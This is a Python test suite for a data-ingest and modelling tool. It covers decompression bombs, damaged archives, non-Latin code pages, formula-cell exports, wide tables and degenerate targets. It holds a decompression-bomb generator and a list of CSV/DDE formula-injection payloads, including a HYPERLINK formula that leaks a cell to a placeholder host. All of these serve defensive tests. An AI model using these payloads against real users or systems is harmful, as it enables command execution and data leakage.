"""Hostile and degenerate inputs (issue 16, findings 4, 5 and 8): decompression bombs and damaged archives,
very wide tables, text in non-Latin code pages, formula cells in exports, and targets or tables too
degenerate to model. Bombs are generated here, never committed."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import tracemalloc
import zipfile

import pandas as pd
import pytest

from automodel.errors import InputFileError
from automodel.ingest.archive import InputLimits, inflate, inflated_size
from automodel.ingest.encoding import guess_encoding
from automodel.ingest.loader import load_bytes

_MB = 1024 * 1024
_LINE = b"0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0\n"


def make_bomb(kind: str, inflated: int) -> tuple[str, bytes]:
    """A CSV of zeros compressed as ``kind``: a few hundred KB that inflate to ``inflated`` bytes.

    gzip, bzip2 and xz readers take concatenated streams as one file, so one compressed megabyte repeated
    makes the bomb without compressing it all (bzip2 is slow on repetitive input)."""
    block = _LINE * (_MB // len(_LINE))
    if kind == "zip":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros.csv", "w", force_zip64=True) as member:
            member.write(b"a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p\n")
            for _ in range(inflated // len(block)):
                member.write(block)
        return "zeros.zip", buffer.getvalue()
    compress = {"gz": gzip.compress, "bz2": bz2.compress, "xz": lambda b: lzma.compress(b, preset=0)}[kind]
    return f"zeros.csv.{kind}", compress(b"a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p\n") + compress(block) * (inflated // len(block))


# ---- finding 4: decompression bombs and damaged archives ---------------------------------------

@pytest.mark.parametrize("kind", ["gz", "zip", "bz2", "xz"])
def test_bombs_are_refused_by_ratio_with_bounded_memory(kind):
    name, data = make_bomb(kind, 48 * _MB)
    assert len(data) < _MB
    tracemalloc.start()
    try:
        with pytest.raises(InputFileError) as refused:
            load_bytes(name, data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    message = str(refused.value)
    assert "expands more than 100 times" in message and "AUTOMODEL_MAX_EXPANSION_RATIO" in message and "\n" not in message
    # The ratio is checked past 16 MB of output, in 64 KB reads: the other 32 MB are never held.
    assert peak < 28 * _MB, f"{kind}: {peak / _MB:.1f} MB held while refusing"


def test_absolute_inflated_limit_refuses_a_file_that_compresses_normally(penguins):
    text = pd.concat([penguins] * 40).to_csv(index=False).encode()  # ~650 KB of real rows: compresses only ~10 times
    data = gzip.compress(text)
    limits = InputLimits(max_bytes=256 * 1024)
    with pytest.raises(InputFileError, match=r"inflates to more than 256\.0 KB \(the AUTOMODEL_MAX_INFLATED_MB limit\)"):
        load_bytes("penguins.csv.gz", data, limits=limits)
    assert inflated_size("penguins.csv.gz", data) == len(text)
    frame, info = load_bytes("penguins.csv.gz", data)  # the default limits let a genuine file through
    assert info.compression == "gzip" and len(frame) == 40 * len(penguins)


@pytest.mark.parametrize("kind", ["gz", "zip", "bz2", "xz"])
def test_genuine_archives_of_every_kind_load(kind, penguins):
    text = penguins.to_csv(index=False).encode()
    buffer = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("penguins.csv", text)
    else:
        buffer.write({"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}[kind](text))
    inner, payload, compression = inflate(f"penguins.csv.{kind}" if kind != "zip" else "penguins.zip", buffer.getvalue())
    assert payload == text and inner == "penguins.csv" and compression
    frame, _ = load_bytes(inner if kind == "zip" else f"penguins.csv.{kind}", buffer.getvalue()) if kind != "zip" else load_bytes("penguins.zip", buffer.getvalue())
    assert frame["species"].tolist() == penguins["species"].tolist()


def _damaged(penguins) -> dict[str, tuple[bytes, str]]:
    text = penguins.to_csv(index=False).encode()
    packed = gzip.compress(text)
    garbled = bytearray(packed)
    garbled[40:60] = b"\xff" * 20
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("penguins.csv", text)
    return {
        "truncated.csv.gz": (packed[: len(packed) // 2], "ends before the end of its compressed data"),
        "garbled.csv.gz": (bytes(garbled), "compressed data is damaged"),
        "truncated.zip": (zipped.getvalue()[: len(zipped.getvalue()) // 2], "not a readable zip file"),
        "truncated.csv.xz": (lzma.compress(text)[:500], "ends before the end of its compressed data"),
    }


def test_damaged_archives_are_one_sentence_and_exit_2_in_inspect_run_and_score(cli, home, tmp_path, penguins):
    for name, (data, expected) in _damaged(penguins).items():
        path = tmp_path / name
        path.write_bytes(data)
        for args in (["inspect", path], ["run", path, "--json"], ["score", path, "--model", "run-that-does-not-matter"]):
            result = cli(*args)
            assert result.code == 2, (name, args[0], result.err)
            assert expected in result.err and result.err.count("\n") == 1, (name, args[0], result.err)
            assert "Traceback" not in result.err and "unexpected" not in result.err
        assert path.read_bytes() == data  # the user's file is left as it was


def test_a_bomb_counts_against_the_storage_quota_at_its_inflated_size(cli, home, tmp_path, monkeypatch, penguins):
    text = pd.concat([penguins] * 100).to_csv(index=False).encode()  # ~1.6 MB of real rows, ~160 KB compressed
    path = tmp_path / "penguins.csv.gz"
    path.write_bytes(gzip.compress(text))
    monkeypatch.setenv("MAX_GB_FREE", str(1.0 / 1024))  # 1 MB: the upload fits, what it inflates to does not
    result = cli("run", path, "--user", "alice", "--json")
    assert result.code == 2
    assert "left of this user's storage quota" in result.err and "inflated size" in result.err
    assert not (home / "users").exists() or not any((home / "users").rglob("*.gz"))  # refused before staging


# ---- finding 8: encodings that are not Latin ---------------------------------------------------

PLACES = {
    "shift_jis": ("都道府県,県庁所在地,地方", [("北海道", "札幌市", "北海道"), ("青森県", "青森市", "東北"), ("岩手県", "盛岡市", "東北"),
                  ("宮城県", "仙台市", "東北"), ("東京都", "新宿区", "関東"), ("神奈川県", "横浜市", "関東"), ("愛知県", "名古屋市", "中部"),
                  ("京都府", "京都市", "近畿"), ("大阪府", "大阪市", "近畿"), ("兵庫県", "神戸市", "近畿"), ("広島県", "広島市", "中国"),
                  ("福岡県", "福岡市", "九州"), ("沖縄県", "那覇市", "沖縄")]),
    "gb18030": ("省份,省会,地区", [("广东省", "广州市", "华南"), ("四川省", "成都市", "西南"), ("浙江省", "杭州市", "华东"), ("江苏省", "南京市", "华东"),
                ("湖北省", "武汉市", "华中"), ("湖南省", "长沙市", "华中"), ("河南省", "郑州市", "华中"), ("山东省", "济南市", "华东"),
                ("陕西省", "西安市", "西北"), ("云南省", "昆明市", "西南"), ("辽宁省", "沈阳市", "东北"), ("福建省", "福州市", "华东")]),
    "euc_kr": ("도,도청 소재지,지역", [("경기도", "수원시", "수도권"), ("강원도", "춘천시", "강원"), ("충청북도", "청주시", "충청"),
               ("충청남도", "홍성군", "충청"), ("전라북도", "전주시", "호남"), ("전라남도", "무안군", "호남"), ("경상북도", "안동시", "영남"),
               ("경상남도", "창원시", "영남"), ("제주특별자치도", "제주시", "제주")]),
    "big5": ("縣市,縣市政府所在地,區域", [("臺北市", "信義區", "北部"), ("新北市", "板橋區", "北部"), ("桃園市", "桃園區", "北部"),
             ("臺中市", "西屯區", "中部"), ("臺南市", "安平區", "南部"), ("高雄市", "苓雅區", "南部"), ("新竹縣", "竹北市", "北部"),
             ("彰化縣", "彰化市", "中部"), ("嘉義縣", "太保市", "南部"), ("屏東縣", "屏東市", "南部"), ("宜蘭縣", "宜蘭市", "東部")]),
    "cp1251": ("область,центр,округ", [("Московская", "Красногорск", "Центральный"), ("Ленинградская", "Гатчина", "Северо-Западный"),
               ("Свердловская", "Екатеринбург", "Уральский"), ("Новосибирская", "Новосибирск", "Сибирский"),
               ("Нижегородская", "Нижний Новгород", "Приволжский"), ("Ростовская", "Ростов-на-Дону", "Южный"),
               ("Самарская", "Самара", "Приволжский"), ("Омская", "Омск", "Сибирский"), ("Воронежская", "Воронеж", "Центральный")]),
}
# Code pages a detector may name for the same bytes (Shift-JIS is a subset of cp932, GBK of GB18030, EUC-KR of cp949).
SAME_TEXT = {"shift_jis": {"shift_jis", "cp932"}, "gbk": {"gbk", "gb18030"}, "gb18030": {"gb18030"}, "euc_kr": {"euc_kr", "cp949"},
             "big5": {"big5", "big5hkscs", "cp950"}, "cp1251": {"cp1251"}, "koi8_r": {"koi8_r"}, "euc_jp": {"euc_jp", "euc_jis_2004", "euc_jisx0213"}}


def _places_csv(encoding: str) -> tuple[str, list[tuple], bytes]:
    family = {"gbk": "gb18030", "koi8_r": "cp1251", "euc_jp": "shift_jis"}.get(encoding, encoding)
    header, rows = PLACES[family]
    text = header + ",順位\n" if family == "shift_jis" else header + ",n\n"
    text += "".join(f"{a},{b},{c},{i + 1}\n" for i, (a, b, c) in enumerate(rows))
    return header, rows, text.encode(encoding)


@pytest.mark.parametrize("encoding", ["shift_jis", "euc_jp", "gb18030", "gbk", "euc_kr", "big5", "cp1251", "koi8_r"])
def test_non_latin_code_pages_are_detected_and_text_survives(encoding):
    header, rows, data = _places_csv(encoding)
    frame, info = load_bytes("places.csv", data)
    assert info.encoding in SAME_TEXT[encoding], info.encoding
    assert info.encoding_confidence >= 0.8
    assert list(frame.columns)[:3] == header.split(",")
    assert frame.iloc[:, 1].tolist() == [r[1] for r in rows]


def test_utf16_and_a_latin_guess_carry_their_confidence():
    header, rows, _ = _places_csv("shift_jis")
    text = header + "\n" + "".join(",".join(r) + "\n" for r in rows)
    frame, info = load_bytes("places.csv", text.encode("utf-16"))
    assert (info.encoding, info.encoding_confidence) == ("utf-16", 1.0)
    assert frame.iloc[:, 0].tolist() == [r[0] for r in rows]
    latin = "ville,pays\nMontréal,Canada\nZürich,Schweiz\nSão Paulo,Brasil\nKraków,Polska\n".encode("cp1252")
    guess = guess_encoding(latin)
    assert guess.encoding == "cp1252" and 0 < guess.confidence < 1


def test_an_unsure_guess_is_flagged_in_inspect(cli, home, tmp_path):
    # Two-letter Cyrillic words: too little text for any detector to be sure which code page it is.
    path = tmp_path / "short.csv"
    path.write_bytes("код,имя\nаб,вг\nде,жз\n".encode("cp1251"))
    result = cli("inspect", path, "--json")
    assert result.code == 0, result.err
    out = result.json
    assert out["encoding_confidence"] < 0.8
    assert any(f"encoding was guessed as {out['encoding']} with confidence" in p and "save the file as UTF-8" in p for p in out["problems"])


# ---- finding 8: formula cells in inspect --export -------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_inspect_export_protects_formula_cells_and_keeps_numbers(cli, home, tmp_path, penguins, fmt):
    frame = penguins.head(9)[["species", "island", "bill_length_mm"]].astype(str).reset_index(drop=True)
    attacks = ['=HYPERLINK("http://example.invalid/?"&A1,"details")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
               "-2+3+cmd|' /C calc'!A0", "\t=1+1", "=1+1", "-5.5", "plain text", "\r=1+1" if fmt == "json" else "\t@A1"]
    frame["note"] = attacks
    frame["delta"] = ["-3.25", "+4", "-1e3", "12", "-0.5", ".5", "-7", "0", "+.25"]
    source = tmp_path / f"notes.{fmt}"
    if fmt == "csv":
        frame.to_csv(source, index=False)
    else:
        frame.to_json(source, orient="records")
    before = source.read_bytes()
    result = cli("inspect", source, "--export", tmp_path / "parsed.csv")
    assert result.code == 0, result.err
    exported = pd.read_csv(tmp_path / "parsed.csv", dtype=str, keep_default_na=False)
    assert len(exported) == len(frame)
    for written, original in zip(exported["note"], attacks):
        if original in ("-5.5", "plain text"):
            assert written == original  # a negative number is a number, not a formula
        else:
            assert written == "'" + original, (written, original)
    assert exported["delta"].tolist() == frame["delta"].tolist()
    assert exported["species"].tolist() == frame["species"].tolist()
    assert source.read_bytes() == before


# ---- finding 5: wide tables ------------------------------------------------------------------------

def _wide_penguins(penguins, copies: int) -> pd.DataFrame:
    """Real rows made wide: every column repeated, with stray spaces, missing tokens and case variants in some copies."""
    rows = penguins.head(30).astype(str).reset_index(drop=True)
    columns = {}
    for k in range(copies):
        for col in rows.columns:
            values = rows[col]
            if k % 4 == 1:
                values = values.where(values.index % 3 != 0, "  " + values + "\t kg ")
            elif k % 4 == 2:
                values = values.where(values.index % 4 != 0, "N/A")
            elif k % 4 == 3 and col in ("species", "island", "sex"):  # 2:1 spellings in some copies, 1:1 ties in others
                values = values.where(values.index % (2 if k % 8 == 7 else 3) != 0, values.str.upper())
            columns[f"{col}_{k}"] = values
    return pd.DataFrame(columns)


def test_wide_text_normalisation_matches_column_by_column(penguins, monkeypatch):
    from automodel.ingest import cleaning

    raw, _ = load_bytes("wide.csv", _wide_penguins(penguins, 40).to_csv(index=False).encode())  # 320 columns x 30 rows
    assert raw.shape == (30, 320)
    wide_report = cleaning.CleaningReport()
    wide = cleaning.normalize_text(raw, wide_report)
    monkeypatch.setattr(cleaning, "_WIDE_COLUMNS", 10**9)  # the per-column path, as for a narrow table
    narrow_report = cleaning.CleaningReport()
    narrow = cleaning.normalize_text(raw, narrow_report)
    assert wide.equals(narrow) and list(wide.dtypes) == list(narrow.dtypes)
    assert wide_report.to_dict() == narrow_report.to_dict()
    assert wide_report.steps["missing_tokens"] and wide_report.steps["case_unified"] and wide_report.steps["strip_whitespace"]


def test_a_table_wider_than_the_column_limit_is_refused_before_parsing(cli, home, tmp_path, penguins, monkeypatch):
    path = tmp_path / "wide.csv"
    _wide_penguins(penguins, 40).to_csv(path, index=False)
    monkeypatch.setenv("AUTOMODEL_MAX_COLUMNS", "300")
    result = cli("inspect", path)
    assert result.code == 2 and "has 320 columns in its first rows, more than the 300 accepted (AUTOMODEL_MAX_COLUMNS)" in result.err
    assert result.err.count("\n") == 1
    frame, info = load_bytes("wide.csv", path.read_bytes(), limits=InputLimits(max_columns=400))
    assert frame.shape == (30, 320) and info.columns == 320
    with pytest.raises(InputFileError, match="has 320 columns, more than the 100"):  # JSON: counted once parsed
        load_bytes("wide.json", _wide_penguins(penguins, 40).to_json(orient="records").encode(), limits=InputLimits(max_columns=100))


# ---- finding 8: degenerate targets, tiny tables, recipes on untrusted models --------------------

def _analyze(frame: pd.DataFrame, target: str | None, **context_options):
    from analyzers.base import AnalysisContext
    from analyzers.selection import analyze
    from automodel import stages

    raw, _ = stages.load_raw("t.csv", frame.to_csv(index=False).encode(), "t.csv")
    cleaned, _ = stages.clean_frame(raw, target)
    profile = stages.profile_frame(cleaned, raw, target, None)
    context = AnalysisContext(metas=profile.metas, target=profile.target, time_budget_s=3, **context_options)
    return analyze(cleaned, context)


def _summary(result) -> str:
    from automodel.outputs.facts import build_facts
    from automodel.outputs.summary import template_summary

    outcome = {"analyzer": result.analyzer, "task": result.task, "target": result.target, "metrics": result.metrics,
               "model_info": result.model_info, "details": result.details, "notes": result.notes, "trusted": result.trusted}
    return template_summary(build_facts(outcome, rows=int(result.metrics.get("rows", 0)), columns=int(result.metrics.get("columns", 0))))


def test_a_constant_target_gets_a_descriptive_analysis_that_says_why(penguins):
    frame = penguins.assign(continent="Antarctica")
    result = _analyze(frame, "continent")
    assert result.task == "descriptive" and result.fitted is None
    assert "single value ('Antarctica') in every row" in result.details["no_model_reason"]
    assert "No predictive model was trained: target 'continent' has a single value ('Antarctica')" in _summary(result)


@pytest.mark.parametrize("kind", ["counter", "code"])
def test_an_identifier_target_is_refused_with_the_reason(penguins, kind):
    ids = [f"PAL-{i:04d}" for i in range(len(penguins))] if kind == "code" else list(range(1, len(penguins) + 1))
    result = _analyze(penguins.assign(individual=ids), "individual")
    assert result.task == "descriptive" and result.fitted is None
    reason = result.details["no_model_reason"]
    assert "'individual'" in reason and "identifier" in reason and "--target" in reason
    assert "identifier" in _summary(result)


def test_a_unique_measurement_is_still_a_regression_target(penguins):
    # Every body mass made distinct: all-different real measurements are what regression predicts, not identifiers.
    frame = penguins.dropna(subset=["body_mass_g"]).reset_index(drop=True)
    frame["body_mass_g"] = frame["body_mass_g"] + frame.index * 0.01
    from analyzers.base import AnalysisContext
    from analyzers.selection import _identifier_reason

    assert _identifier_reason(frame["body_mass_g"], "body_mass_g", AnalysisContext(metas=[], target="body_mass_g")) is None


def test_a_two_row_file_claims_no_correlation_or_model_in_the_cli_and_summary(cli, home, tmp_path, penguins, monkeypatch):
    monkeypatch.setenv("ENABLE_SEMANTIC_MERGE", "0")  # nothing to enrich two rows with; keeps the test fast
    path = tmp_path / "two.csv"
    penguins.dropna().head(2)[["bill_length_mm", "bill_depth_mm", "body_mass_g"]].to_csv(path, index=False)
    result = cli("run", path, "--target", "body_mass_g")
    assert result.code == 0, result.err
    assert "DescriptiveAnalyzer (descriptive)" in result.out and "model:       None" in result.out
    summary = next(line for line in result.out.splitlines() if line.strip().startswith("summary:"))
    assert "only 2 rows" in summary and "AUTOMODEL_MIN_ROWS" in summary
    assert "Pearson" not in summary and "relationship" not in summary


def test_fewer_rows_than_the_configured_minimum_get_no_correlations(penguins):
    frame = penguins.dropna().head(30)[["bill_length_mm", "bill_depth_mm", "flipper_length_mm", "body_mass_g"]]
    small = _analyze(frame, None, min_rows=50)
    assert small.task == "descriptive" and not small.details["top_correlations"] and not small.details["pearson"]
    assert "only 30 rows" in small.details["no_model_reason"]
    enough = _analyze(frame, None, min_rows=20)
    assert "no_model_reason" not in enough.details


def test_recipes_hold_back_on_a_mean_only_model_unless_configured(tmp_path, penguins):
    """The issue's case: units sold unrelated to every column, a mean-only model with R² 0, and a reorder rule
    that would raise a purchase order for every row."""
    import numpy as np

    from analyzers.base import AnalysisContext
    from analyzers.regression import RegressionAnalyzer
    from analyzers.selection import baseline_result
    from automodel import stages
    from automodel.outputs.actions import ActionLog, execute_actions
    from recipes import ActionContext

    frame = penguins.dropna().reset_index(drop=True)
    frame["units_sold"] = np.random.default_rng(0).permutation(frame["body_mass_g"].to_numpy()) / 100  # real values, no relation
    raw, _ = stages.load_raw("sales.csv", frame.to_csv(index=False).encode(), "sales.csv")
    cleaned, _ = stages.clean_frame(raw, "units_sold")
    profile = stages.profile_frame(cleaned, raw, "units_sold", None)
    baseline = baseline_result(cleaned, AnalysisContext(metas=profile.metas, target="units_sold"), RegressionAnalyzer())
    predictions = baseline.fitted.predict_frame(cleaned)
    assert baseline.metrics["r2"] == pytest.approx(0.0, abs=1e-9) and not baseline.trusted
    threshold = float(predictions["prediction"].iloc[0]) - 1  # every row's prediction (the mean) exceeds it
    context = ActionContext(run_id="run-sales", file_name="sales.csv", user_id="alice", analyzer=baseline.analyzer, task="regression",
                            target="units_sold", metrics=baseline.metrics, summary="", predictions=predictions,
                            column_metadata=profile.metas, frame=cleaned, trusted=False, model_name=baseline.model_info["model"])
    log = ActionLog(tmp_path / "actions.db")
    held = next(r for r in execute_actions(context, log, enabled=["reorder"], recipe_options={"reorder": {"threshold": threshold}})
                if r["recipe"] == "reorder")
    assert held["held_back"] and not held["triggered"]
    assert "not trusted" in held["message"] and "baseline (mean)" in held["message"] and "act_on_untrusted" in held["message"]
    assert log.tasks(run_id="run-sales", kind="purchase_order") == []
    acted = execute_actions(context, log, enabled=["reorder"], recipe_options={"reorder": {"threshold": threshold, "act_on_untrusted": True}})[0]
    assert acted["triggered"] and not acted["held_back"]
    assert len(log.tasks(run_id="run-sales", kind="purchase_order")) == len(cleaned)
    # A scoring run reusing this model carries its verdict, so the same recipes hold back there too.
    stages.save_model_bundle(tmp_path / "model.joblib", baseline.fitted, None, trusted=baseline.trusted)
    assert stages.reuse_model(cleaned, "run-sales", tmp_path / "model.joblib").trusted is False
